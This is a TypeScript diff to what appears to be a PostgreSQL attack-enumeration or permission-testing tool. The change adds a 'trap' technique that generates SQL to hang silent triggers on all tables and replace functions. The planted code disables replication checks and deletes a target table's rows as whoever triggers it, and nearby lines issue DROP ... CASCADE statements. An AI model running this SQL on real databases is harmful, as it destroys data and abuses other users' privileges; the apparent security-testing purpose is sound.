@@ -17,7 +17,9 @@ export type Means =
   /** A statement on another table, or an INSERT into the table itself. */
   | 'table'
   /** What the owner of a table, function, schema or type can do. */
-  | 'owned';
+  | 'owned'
+  /** Code of one's own where the statements of others run it: triggers wherever one may hang them, functions that one may replace. */
+  | 'trap';
 
 export type Operation = 'UPDATE' | 'DELETE' | 'TRUNCATE';
 
@@ -249,4 +251,20 @@ export function owned(target: Target): readonly Weapon[] {
   const disabled = withSteps('owned', target, [`ALTER TABLE ${table.sql} DISABLE TRIGGER USER`], relatives.flatMap(({ sql }) => [`ALTER TABLE ${sql} DISABLE TRIGGER ALL`, `GRANT ALL ON ${sql} TO CURRENT_USER`]));
   const dropped = [...relatives.map(({ sql }) => `DROP TABLE ${sql} CASCADE`), ...arsenal.schemas.map((name) => `DROP SCHEMA ${name} CASCADE`), ...arsenal.types.map((name) => `DROP TYPE ${name} CASCADE`)];
   return [...disabled, ...replaced, ...drops, ...loose('owned', dropped)];
+}
+
+/** Triggers that do harm as whoever sets them off, on all tables that take them, and harmful bodies for all functions that can be replaced; then calls, and statements on other tables. */
+export function traps(target: Target): readonly Weapon[] {
+  const { arsenal, table } = target;
+  const quietly = (statement: string): string => `BEGIN ${statement}; EXCEPTION WHEN OTHERS THEN NULL; END;`;
+  const harm = `${quietly('SET LOCAL session_replication_role = replica')} ${quietly(`DELETE FROM ${table.sql}`)}`;
+  const tables = arsenal.relations.filter(({ relkind }) => relkind === 'r' || relkind === 'p');
+  const hung = tables.map(({ sql }) => `CREATE TRIGGER trap AFTER INSERT OR UPDATE OR DELETE ON ${sql} FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.trap()`);
+  const replaced = arsenal.functions.flatMap(({ head, result, prokind }): readonly string[] => {
+    if (prokind === 'p' || result === 'void') return [`${head} LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} END`)}`];
+    return /^(?:SETOF|TABLE)\b/iu.test(result) ? [] : [`${head} LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} RETURN ${result === 'trigger' ? 'coalesce(NEW, OLD)' : valueFor(result, 'first')}; END`)}`];
+  });
+  const soft = [`CREATE FUNCTION pg_temp.trap() RETURNS trigger LANGUAGE plpgsql AS ${literal(`BEGIN ${harm} RETURN NULL; END`)}`, ...hung, ...replaced];
+  const shots = [...functions(target), ...otherTables(target)].flatMap((weapon) => weapon.shots);
+  return [{ means: 'trap', soft, prepare: [], shots }];
 }
